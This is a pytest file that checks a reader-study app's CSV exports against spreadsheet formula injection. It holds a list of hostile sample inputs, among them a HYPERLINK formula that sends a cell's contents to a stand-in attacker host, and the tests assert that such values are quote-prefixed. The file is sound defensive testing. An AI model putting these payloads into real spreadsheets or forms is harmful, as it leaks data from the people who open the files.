"""CSV exports against formula injection: text that readers and trainees typed (their names, their
questionnaire answers) reaches the admin's spreadsheet as text, never as a formula, while numbers
stay numbers. Every CSV export is read back with the csv module, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from pathosynth.reader.app import Limits
from pathosynth.reader.exports import csv_text
from pathosynth.reader.teaching_sources import PoolMaker
from tests.reader.conftest import admin_csrf, csrf_of, invite, log_in, make_vtt

# what a hostile reader may type as a name or an answer (the forms strip leading tabs and returns,
# so those two are checked on the writer directly below)
HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for results")', "@SUM(1+1)", "+1+1", "-2+3"]
BENIGN = "Dr Benign"


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def neutralised(text: str) -> str:
    return "'" + text


def answer_first_case(client: TestClient, link: str, confidence: int) -> None:
    page = client.get(f"{link}/case/1").text
    client.post(f"{link}/answer", data={"csrf": csrf_of(page), "number": "1", "origin": "real",
                                        "confidence": str(confidence)})


def test_the_answers_export_neutralises_formulas_in_reader_names(client):
    log_in(client)
    study_id = make_vtt(client, counts="tumour=1")
    links = invite(client, study_id, *HOSTILE, BENIGN)
    for index, link in enumerate(links):
        answer_first_case(client, link, confidence=1 + index)
    rows = read_csv(client.get(f"/admin/studies/{study_id}/export.csv").text)
    assert [row["reader"] for row in rows] == [neutralised(name) for name in HOSTILE] + [BENIGN]
    # the numeric columns are still plain numbers
    assert [int(row["confidence"]) for row in rows] == [1, 2, 3, 4, 5]
    assert all(row["reader_id"].isdigit() and float(row["seconds"]) >= 0 for row in rows)


def test_the_questionnaire_export_neutralises_formulas_in_answers(client):
    log_in(client)
    study_id = make_vtt(client, survey=True, counts="tumour=1")
    (link,) = invite(client, study_id, HOSTILE[1])
    csrf = csrf_of(client.get(f"{link}/case/1").text)  # one token signs all of a reader's forms
    for number in (1, 2):
        client.post(f"{link}/answer", data={"csrf": csrf, "number": str(number), "origin": "real", "confidence": "3"})
    form = {"csrf": csrf, "likert-q1": "5", "text-q1": HOSTILE[0], "likert-q2": "2",
            "text-q2": HOSTILE[3], "text-q4": "Fine as it is."}
    client.post(f"{link}/survey", data=form)
    rows = read_csv(client.get(f"/admin/studies/{study_id}/questionnaire.csv").text)
    assert [(row["reader"], row["item"], row["likert"], row["text"]) for row in rows] == [
        (neutralised(HOSTILE[1]), "q1", "5", neutralised(HOSTILE[0])),
        (neutralised(HOSTILE[1]), "q2", "2", neutralised(HOSTILE[3])),
        (neutralised(HOSTILE[1]), "q4", "", "Fine as it is.")]


def test_the_teaching_export_neutralises_formulas_in_trainee_names(app_factory):
    with TestClient(app_factory(load_maker=PoolMaker, limits=Limits(per_minute=20))) as client:
        log_in(client)
        made = client.post("/admin/studies/teaching", data={"csrf": admin_csrf(client), "name": "T",
                                                           "source": "synthetic"}, follow_redirects=False)
        study_id = int(made.headers["location"].rsplit("/", 1)[1])
        (link,) = invite(client, study_id, HOSTILE[0])
        client.post(f"{link}/request", data={"csrf": csrf_of(client.get(link).text), "label": "tumour"})
        rows = read_csv(client.get(f"/admin/studies/{study_id}/export.csv").text)
    assert [row["reader"] for row in rows] == [neutralised(HOSTILE[0])]
    assert rows[0]["case"].isdigit() and rows[0]["label"] == "tumour"


def test_every_formula_start_is_quoted_and_numbers_stay_numbers():
    rows = [{"text": start + "cmd", "negative": -3, "fraction": -0.5, "number_as_text": "-3", "empty": None}
            for start in ("=", "+", "-", "@", "\t", "\r")]
    columns = ["text", "negative", "fraction", "number_as_text", "empty"]
    parsed = read_csv(csv_text(rows, columns))
    assert [row["text"] for row in parsed] == ["'=cmd", "'+cmd", "'-cmd", "'@cmd", "'\tcmd", "'\rcmd"]
    assert {(row["negative"], row["fraction"], row["empty"]) for row in parsed} == {("-3", "-0.5", "")}
    # text that looks like a number is still text a spreadsheet would evaluate: quoted
    assert {row["number_as_text"] for row in parsed} == {"'-3"}


def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
    rows = [{"reader": "Dr A", "text": "first line\rsecond line"}, {"reader": "Dr B", "text": "x"}]
    assert read_csv(csv_text(rows, ["reader", "text"])) == rows
